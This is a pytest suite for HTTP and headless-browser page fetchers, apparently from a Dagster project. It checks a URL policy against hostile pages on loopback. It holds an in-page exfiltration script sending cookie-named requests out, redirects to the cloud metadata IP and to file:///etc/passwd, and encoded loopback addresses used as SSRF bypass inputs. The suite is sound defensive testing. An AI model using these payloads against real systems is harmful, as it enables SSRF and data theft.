"""Fetching by plain HTTP and by a real Chromium, against hostile pages served on loopback.

No mocks: a ``ThreadingHTTPServer`` on 127.0.0.1 serves every case and the browser is the
system Chromium.

The machines running this suite are small and often busy (other test runs, Chromium, Dagster
processes), so the fetchers get generous time limits except in the tests about time limits,
where the slow pages are much slower than the limit; parallelism is asserted on what the
server saw (several requests in flight at once), with only a loose bound on wall time.
"""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import dagster as dg
import pytest

from orchestration_project.agents.coordination.store import CoordinationStore
from orchestration_project.operations.healing import OpsSettings
from resources.fetching import (
    BlockedUrlError,
    BrowserFetcher,
    BrowserNotAvailableError,
    BrowserSession,
    FetchResult,
    HttpFetcher,
    UrlPolicy,
    find_chromium,
)
from resources.fetching.http import TIMEOUT_SETTING

SLOW_S = 6.0  # far longer than the short time limits below (the server thread just lingers)
PAUSE_S = 1.0  # one "slow-ish" page, for the parallelism tests

HOME = b"""<html><head><title>Acme</title></head><body><h1>Home</h1>
<a href="/pricing">Pricing</a> <a href="/js">JS</a></body></html>"""
JS_INLINE = """<html><body><div id="app">Loading</div><script>
document.getElementById('app').innerHTML = '<h1>Inserted ' + 'by script</h1>';
</script></body></html>"""
JS_FETCH = """<html><body><div id="app">Loading</div><script>
fetch('/data.json').then(r => r.json()).then(d => {
  document.getElementById('app').innerHTML = '<h2>' + d.name + '</h2>';
});
</script></body></html>"""
# Scripts that try to leave the allow-list: another host (localhost is served by the same
# server, so only the policy can stop it) and a same-site URL that redirects to the metadata IP.
EXFIL = """<html><body><p>Exfil</p><script>
fetch('http://localhost:{port}/stolen?cookie=1').catch(() => {{}});
fetch('/to-metadata').catch(() => {{}});
new Image().src = 'http://10.0.0.1/pixel.gif';
try {{ new WebSocket('ws://localhost:{port}/stolen-ws'); }} catch (e) {{}}
window.open('http://localhost:{port}/stolen-popup');
</script></body></html>"""
# Sets a cookie, then shows what the same context sends back.
SET_COOKIE = """<html><body><p>Cookie set</p><script>
fetch('/echo-cookie').then(r => r.text()).then(t => {
  document.body.insertAdjacentHTML('beforeend', '<p id="echo">' + t + '</p>');
});
</script></body></html>"""


class Handler(BaseHTTPRequestHandler):
    """The test site: one path per behaviour."""

    seen: list[str] = []
    lock = threading.Lock()
    inflight = 0
    peak = 0  # the most /pause requests served at the same time

    def log_message(self, *a: Any) -> None:
        """Keep the test output quiet."""

    @classmethod
    def reset_peak(cls) -> None:
        """Forget the concurrency seen so far."""
        with cls.lock:
            cls.peak = 0

    def _send(
        self,
        code: int,
        body: bytes,
        ctype: str = "text/html; charset=utf-8",
        headers: dict[str, str] | None = None,
    ) -> None:
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def _redirect(self, where: str, code: int = 302) -> None:
        self._send(code, b"", headers={"Location": where})

    def _pause(self) -> None:
        with Handler.lock:
            Handler.inflight += 1
            Handler.peak = max(Handler.peak, Handler.inflight)
        try:
            time.sleep(PAUSE_S)
        finally:
            with Handler.lock:
                Handler.inflight -= 1
        self._send(200, f"<html><body>{self.path}</body></html>".encode())

    def do_GET(self) -> None:  # noqa: N802
        """Serve one path."""
        p = self.path
        Handler.seen.append(f"{self.headers.get('Host')}{p}")
        port = self.server.server_address[1]
        if p in ("/", "/pricing"):
            self._send(200, HOME)
        elif p == "/js":
            self._send(200, JS_INLINE.encode())
        elif p == "/js-fetch":
            self._send(200, JS_FETCH.encode())
        elif p == "/data.json":
            self._send(200, b'{"name": "Rendered from JSON"}', "application/json")
        elif p == "/exfil":
            self._send(200, EXFIL.format(port=port).encode())
        elif p == "/set-cookie":
            self._send(200, SET_COOKIE.encode(), headers={"Set-Cookie": "visitor=abc; Path=/"})
        elif p == "/echo-cookie":
            self._send(200, f"cookie=[{self.headers.get('Cookie') or ''}]".encode())
        elif p == "/latin1":
            self._send(
                200,
                "<html><body>Café</body></html>".encode("latin-1"),
                "text/html; charset=iso-8859-1",
            )
        elif p == "/slow":
            time.sleep(SLOW_S)
            self._send(200, b"<html>late</html>")
        elif p in ("/trickle", "/stall"):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<html><body>")
            self.wfile.flush()
            for _ in range(10):
                time.sleep(0.3 if p == "/trickle" else SLOW_S)
                self.wfile.write(b"<p>more</p>")
                self.wfile.flush()
        elif p == "/big":
            self._send(200, b"<html>" + b"x" * 500_000 + b"</html>")
        elif p == "/big-chunked":  # no Content-Length: the cap must stop the read
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            for _ in range(50):
                self.wfile.write(b"<p>" + b"y" * 10_000 + b"</p>")
        elif p == "/brochure.pdf":
            self._send(200, b"%PDF-1.4 fake", "application/pdf")
        elif p == "/broken":
            self._send(500, b"<html>oops</html>")
        elif p == "/loop-a":
            self._redirect("/loop-b")
        elif p == "/loop-b":
            self._redirect("/loop-a")
        elif p.startswith("/chain/"):
            self._redirect(f"/chain/{int(p.rsplit('/', 1)[1]) + 1}")
        elif p == "/to-metadata":
            self._redirect("http://169.254.169.254/latest/meta-data/")
        elif p == "/to-file":
            self._redirect("file:///etc/passwd")
        elif p == "/moved":
            self._redirect("/", 301)
        elif p == "/robots.txt":
            self._send(200, b"User-agent: *\nDisallow: /internal/\n", "text/plain")
        elif p.startswith("/pause"):
            self._pause()
        else:
            self._send(404, b"<html>not here</html>")


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True  # sleeping handlers never hold up the teardown
    block_on_close = False

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients that give up (timeouts, caps) break the pipe: that is the point."""


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    """The test site's base URL, e.g. ``http://127.0.0.1:41234``."""
    server = _QuietServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _host(site: str) -> str:
    return site.split("//")[1]


@pytest.fixture(scope="module")
def http(site: str) -> HttpFetcher:
    """An HTTP fetcher allowed on the test site only (a generous time limit)."""
    return HttpFetcher(
        timeout_s=5.0,
        max_bytes=100_000,
        allowed_domains=[_host(site)],
        allow_private_hosts=["127.0.0.1"],
    )


@pytest.fixture(scope="module")
def browser(site: str) -> BrowserFetcher:
    """A browser allowed on the test site only (a generous time limit)."""
    return BrowserFetcher(
        timeout_s=8.0,
        max_bytes=100_000,
        max_concurrency=6,
        allowed_domains=[_host(site)],
        allow_private_hosts=["127.0.0.1"],
    )


@pytest.fixture(scope="module")
def session(browser: BrowserFetcher) -> Iterator[BrowserSession]:
    """One browser shared by the browser tests (each call still gets a fresh context)."""
    with browser.session() as s:
        yield s


CASES = [
    ("/", "ok"),
    ("/big", "too_large"),
    ("/big-chunked", "too_large"),
    ("/brochure.pdf", "non_html"),
    ("/nowhere", "not_found"),
    ("/broken", "http_error"),
    ("/loop-a", "redirect_loop"),
    ("/chain/0", "too_many_redirects"),
    ("/to-metadata", "blocked"),
    ("/to-file", "blocked"),
]


def _check(r: FetchResult, path: str, outcome: str, route: str) -> None:
    assert r.outcome == outcome, (path, r.outcome, r.error)
    assert r.route == route
    assert r.ok == (outcome == "ok")
    assert (r.html is not None) == (outcome == "ok"), path
    if outcome != "ok":
        assert r.error and len(r.error) > 10, (path, r.error)


# -- plain HTTP -------------------------------------------------------------------------------
@pytest.mark.parametrize(("path", "outcome"), CASES)
def test_http_outcomes(http: HttpFetcher, site: str, path: str, outcome: str) -> None:
    r = http.fetch(site + path)
    _check(r, path, outcome, "http")
    if outcome == "blocked":
        assert "Refused" in r.error and r.redirects == [r.final_url]
    if outcome == "non_html":
        assert r.content_type == "application/pdf" and "not HTML" in r.error
    if outcome == "not_found":
        assert r.status == 404
    if outcome == "too_many_redirects":
        assert len(r.redirects) == http.max_redirects + 1
    if outcome == "too_large":
        assert r.size_bytes > http.max_bytes and "cap" in r.error


def test_http_metadata_redirect_names_the_address(http: HttpFetcher, site: str) -> None:
    r = http.fetch(site + "/to-metadata")
    assert "169.254.169.254" in r.error and "metadata" in r.error


@pytest.mark.parametrize("path", ["/slow", "/trickle", "/stall"])
def test_http_deadline_includes_a_slow_body(http: HttpFetcher, site: str, path: str) -> None:
    fast = http.model_copy(update={"timeout_s": 1.0})
    t0 = time.perf_counter()
    r = fast.fetch(site + path)
    assert r.outcome == "timeout" and r.html is None, r.error
    assert "1 s" in r.error
    assert time.perf_counter() - t0 < SLOW_S / 2  # the deadline, not the server, ended it


def test_an_applied_timeout_setting_changes_the_http_deadline(
    http: HttpFetcher, site: str, tmp_path
) -> None:
    """``fetch_timeout_s:http`` (written when a reviewed recommendation is approved) is what
    the fetching steps use; without it the configured timeout stands."""
    store = CoordinationStore(f"sqlite:///{tmp_path / 'c.db'}")
    assert http.tuned(store) is http
    OpsSettings(store).set(TIMEOUT_SETTING, 1.0, reason="review item r-1 approved by alice")
    tuned = http.tuned(store)
    assert (tuned.timeout_s, http.timeout_s) == (1.0, 5.0)
    r = tuned.fetch(site + "/slow")
    assert r.outcome == "timeout" and "1 s" in r.error, r.error


def test_http_decodes_with_the_declared_charset(http: HttpFetcher, site: str) -> None:
    r = http.fetch(site + "/latin1")
    assert r.ok and "Café" in r.html


def test_http_refuses_before_any_request(http: HttpFetcher) -> None:
    for url in ("file:///etc/passwd", "http://169.254.169.254/", "https://evil.example/"):
        r = http.fetch(url)
        assert r.outcome == "blocked" and r.status is None and "Refused" in r.error


def test_http_never_raises_for_a_dead_port() -> None:
    r = HttpFetcher(allow_private_hosts=["127.0.0.1"]).fetch("http://127.0.0.1:1/")
    assert r.outcome == "error" and "ConnectError" in r.error


def test_the_ca_bundle_is_loaded_once_per_process_not_per_page(
    http: HttpFetcher, site: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Building a TLS context loads the whole CA bundle (about 70 ms of CPU): the fetcher
    opens a client per page, and every client shares one context."""
    import ssl

    from orchestration_project.common.tls import shared_tls_context

    loads = []
    real = ssl.SSLContext.load_verify_locations

    def counting(self: ssl.SSLContext, *args: Any, **kwargs: Any) -> None:
        loads.append(args or kwargs)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(ssl.SSLContext, "load_verify_locations", counting)
    shared_tls_context.cache_clear()
    results = [http.fetch(f"{site}/") for _ in range(5)]
    assert [r.outcome for r in results] == ["ok"] * 5
    assert len(loads) == 1, loads


def test_robots_txt_is_readable_as_text(http: HttpFetcher, site: str) -> None:
    assert "Disallow: /internal/" in http.fetch_text(site + "/robots.txt")
    assert http.fetch_text(site + "/nowhere") is None
    assert http.fetch_text(site + "/brochure.pdf") is None


def test_http_pages_are_fetched_in_parallel_and_in_order(http: HttpFetcher, site: str) -> None:
    n = 6
    urls = [f"{site}/pause/http/{i}" for i in range(n)]
    Handler.reset_peak()
    t0 = time.perf_counter()
    rs = http.fetch_many(urls)
    took = time.perf_counter() - t0
    assert [r.url for r in rs] == urls and all(r.ok for r in rs), [r.error for r in rs]
    assert [f"/pause/http/{i}" in r.html for i, r in enumerate(rs)] == [True] * n
    assert Handler.peak >= 2, Handler.peak  # several requests were in flight at once
    assert took < n * PAUSE_S, took  # serially it would take n × PAUSE_S


def test_http_concurrency_is_bounded(http: HttpFetcher, site: str) -> None:
    two = http.model_copy(update={"max_concurrency": 2})
    Handler.reset_peak()
    rs = two.fetch_many([f"{site}/pause/http2/{i}" for i in range(4)])
    assert all(r.ok for r in rs) and Handler.peak == 2, Handler.peak


# -- the browser ------------------------------------------------------------------------------
def test_browser_outcomes(browser: BrowserFetcher, session: BrowserSession, site: str) -> None:
    results = session.fetch_many([site + p for p, _ in CASES])
    for (path, outcome), r in zip(CASES, results, strict=True):
        _check(r, path, outcome, "browser")
        assert r.url == site + path
    by = dict(zip([p for p, _ in CASES], results, strict=True))
    assert "Home" in by["/"].html and by["/"].status == 200
    assert by["/"].content_type == "text/html"
    assert "169.254.169.254" in by["/to-metadata"].error
    assert by["/to-metadata"].final_url == "http://169.254.169.254/latest/meta-data/"
    assert by["/brochure.pdf"].content_type == "application/pdf"
    assert by["/nowhere"].status == 404
    assert len(by["/chain/0"].redirects) == browser.max_redirects + 1
    assert by["/big"].size_bytes > browser.max_bytes


def test_a_slow_page_times_out_alone(browser: BrowserFetcher, site: str) -> None:
    fast = browser.model_copy(update={"timeout_s": 2.5})
    t0 = time.perf_counter()
    slow, home, pricing = fast.fetch_many([site + "/slow", site + "/", site + "/pricing"])
    took = time.perf_counter() - t0
    assert slow.outcome == "timeout" and slow.html is None and "2.5 s" in slow.error, slow
    assert home.ok and pricing.ok, (home.error, pricing.error)  # the others carried on
    assert took < SLOW_S, took  # the page was given up, not waited for


def test_redirects_are_followed_and_reported(
    http: HttpFetcher, session: BrowserSession, site: str
) -> None:
    for r in (http.fetch(site + "/moved"), session.fetch(site + "/moved")):
        assert r.ok and r.final_url == site + "/" and r.redirects == [site + "/"], r
        assert "Home" in r.html


def test_the_browser_runs_javascript_that_plain_http_does_not(
    http: HttpFetcher, session: BrowserSession, site: str
) -> None:
    inline, fetched = session.fetch_many([site + "/js", site + "/js-fetch"])
    assert inline.ok and "<h1>Inserted by script</h1>" in inline.html
    assert fetched.ok and "<h2>Rendered from JSON</h2>" in fetched.html
    for path in ("/js", "/js-fetch"):
        plain = http.fetch(site + path)
        assert plain.ok and "Inserted by script" not in plain.html
        assert "Rendered from JSON" not in plain.html


def test_page_requests_off_the_policy_are_aborted(session: BrowserSession, site: str) -> None:
    Handler.seen.clear()
    r = session.fetch(site + "/exfil")
    assert r.ok and "Exfil" in r.html
    # localhost (same server, other name), the redirect hop to 169.254.169.254, 10.0.0.1
    assert r.blocked_requests >= 2, r  # (images are not loaded at all: resource type)
    assert not any("stolen" in s for s in Handler.seen), Handler.seen
    assert any(s.endswith("/to-metadata") for s in Handler.seen)  # asked, then refused


def test_a_browser_session_serves_several_batches_in_parallel(
    session: BrowserSession, site: str
) -> None:
    n = 6
    urls = [f"{site}/pause/browser/{i}" for i in range(n)]
    Handler.reset_peak()
    t0 = time.perf_counter()
    rs = session.fetch_many(urls)
    took = time.perf_counter() - t0
    assert [r.url for r in rs] == urls
    assert all(r.ok for r in rs), [r.error for r in rs]
    assert [f"/pause/browser/{i}" in r.html for i, r in enumerate(rs)] == [True] * n
    assert Handler.peak >= 2, Handler.peak  # several pages were loading at once
    assert took < n * PAUSE_S, took  # serially it would take n × PAUSE_S
    assert session.fetch(site + "/").ok  # a second batch in the same browser


def test_browser_concurrency_is_bounded(browser: BrowserFetcher, site: str) -> None:
    two = browser.model_copy(update={"max_concurrency": 2})
    Handler.reset_peak()
    rs = two.fetch_many([f"{site}/pause/browser2/{i}" for i in range(3)])
    assert all(r.ok for r in rs) and Handler.peak <= 2, (Handler.peak, [r.error for r in rs])


def test_each_batch_gets_a_fresh_context(session: BrowserSession, site: str) -> None:
    first = session.fetch(site + "/set-cookie")
    second = session.fetch(site + "/echo-cookie")
    # Within its batch the cookie is sent back; the next batch starts without it.
    assert first.ok and "cookie=[visitor=abc]" in first.html, first.html
    assert second.ok and "cookie=[]" in second.html, second.html


def test_the_browser_works_from_threads_and_beside_a_running_loop(
    browser: BrowserFetcher, session: BrowserSession, site: str
) -> None:
    async def inside_a_loop() -> FetchResult:
        return browser.fetch(site + "/")

    assert asyncio.run(inside_a_loop()).ok
    with ThreadPoolExecutor(3) as pool:
        rs = list(pool.map(session.fetch, [site + "/", site + "/js", site + "/pricing"]))
    assert all(r.ok for r in rs)


def test_the_fetchers_work_as_dagster_resources(
    http: HttpFetcher, browser: BrowserFetcher, site: str
) -> None:
    @dg.asset
    def front_page(http: HttpFetcher, browser: BrowserFetcher) -> dict[str, str]:
        plain, rendered = http.fetch(site + "/js"), browser.fetch(site + "/js")
        return {"http": plain.outcome, "browser": rendered.outcome, "html": rendered.html or ""}

    result = dg.materialize([front_page], resources={"http": http, "browser": browser})
    assert result.success
    out = result.output_for_node("front_page")
    assert out["http"] == out["browser"] == "ok" and "Inserted by script" in out["html"]


def test_the_browser_refuses_before_opening_a_page(session: BrowserSession) -> None:
    for url in ("javascript:alert(1)", "http://[::1]/", "https://evil.example/"):
        r = session.fetch(url)
        assert r.outcome == "blocked" and "Refused" in r.error


def test_a_missing_chromium_names_the_install_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHROMIUM_PATH", "/nowhere/chromium")
    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium") as err:
        find_chromium()
    assert "CHROMIUM_PATH" in str(err.value)
    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
        BrowserFetcher().fetch("http://127.0.0.1/")
    monkeypatch.delenv("CHROMIUM_PATH")
    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
        BrowserFetcher(executable_path="/nowhere/chrome").fetch_many(["http://127.0.0.1/"])
    monkeypatch.setenv("CHROMIUM_PATH", "/usr/bin/chromium")
    assert find_chromium() == "/usr/bin/chromium"


# -- the policy -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("file:///etc/passwd", "scheme file"),
        ("javascript:alert(1)", "scheme javascript"),
        ("mailto:sales@example.com", "scheme mailto"),
        ("data:text/html,<h1>x</h1>", "scheme data"),
        ("ftp://example.com/x", "scheme ftp"),
        ("tel:+15551234", "scheme tel"),
        ("http://10.0.0.1/", "internal address 10.0.0.1"),
        ("http://192.168.1.1/", "internal"),
        ("http://100.64.0.1/", "internal"),
        ("http://169.254.169.254/latest/meta-data/", "metadata"),
        ("http://[fd00:ec2::254]/", "metadata"),
        ("http://[::ffff:169.254.169.254]/", "metadata"),
        ("http://metadata.google.internal/computeMetadata/v1/", "metadata"),
        ("http://[::1]/", "internal address ::1"),
        ("http://[::ffff:10.0.0.1]/", "internal"),
        ("http://2130706433/", "internal address 127.0.0.1"),
        ("http://0x7f.0.0.1/", "internal address 127.0.0.1"),
        ("http://0177.0.0.1/", "internal address 127.0.0.1"),
        ("http://0.0.0.0/", "internal"),
        ("http://224.0.0.1/", "internal"),
        ("http://localhost/", "internal"),
    ],
)
def test_the_policy_refuses_internal_addresses_and_other_schemes(url: str, why: str) -> None:
    with pytest.raises(BlockedUrlError, match=why) as err:
        UrlPolicy().check(url)
    assert isinstance(err.value, ValueError)
    assert err.value.url == url and str(err.value).startswith("Refused to fetch")
    assert not UrlPolicy().allows(url)


def test_public_addresses_pass_an_empty_allow_list() -> None:
    UrlPolicy().check("http://8.8.8.8/")
    UrlPolicy().check("https://[2606:4700:4700::1111]/x")


def test_the_allow_list_forms() -> None:
    p = UrlPolicy(("shop.example.com", "*.acme.test", "127.0.0.1:8701"), ("127.0.0.1",))
    p.check("http://127.0.0.1:8701/x")
    with pytest.raises(BlockedUrlError, match="127.0.0.1:8706 is not on the allow-list"):
        p.check("http://127.0.0.1:8706/x")  # another port: another site
    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
        p.check("https://evil.example.org/")
    wild = UrlPolicy(("*.acme.test",))
    for allowed in ("http://shop.acme.test/", "http://a.b.acme.test/"):
        with pytest.raises(BlockedUrlError, match="cannot resolve"):  # allowed, then resolved
            wild.check(allowed)
    for outside in ("http://acme.test.evil.example/", "http://evilacme.test/"):
        with pytest.raises(BlockedUrlError, match="not on the allow-list"):
            wild.check(outside)
    with pytest.raises(BlockedUrlError, match="metadata"):
        UrlPolicy(allow_private_hosts=("169.254.169.254",)).check("http://169.254.169.254/")
    with pytest.raises(BlockedUrlError, match="metadata"):
        UrlPolicy(("metadata.google.internal",), ("metadata.google.internal",)).check(
            "http://metadata.google.internal/"
        )


def test_loopback_only_when_configured() -> None:
    with pytest.raises(BlockedUrlError, match="internal address"):
        UrlPolicy(("127.0.0.1:8701",)).check("http://127.0.0.1:8701/")
    UrlPolicy(("127.0.0.1:8701",), ("127.0.0.1",)).check("http://127.0.0.1:8701/")
    UrlPolicy(allow_private_hosts=("localhost",)).check("http://localhost:8080/")
    UrlPolicy(allow_private_hosts=("[::1]",)).check("http://[::1]:8080/")
    with pytest.raises(BlockedUrlError, match="internal address"):  # 127.0.0.1 ≠ 10.0.0.1
        UrlPolicy(allow_private_hosts=("127.0.0.1",)).check("http://10.0.0.1/")
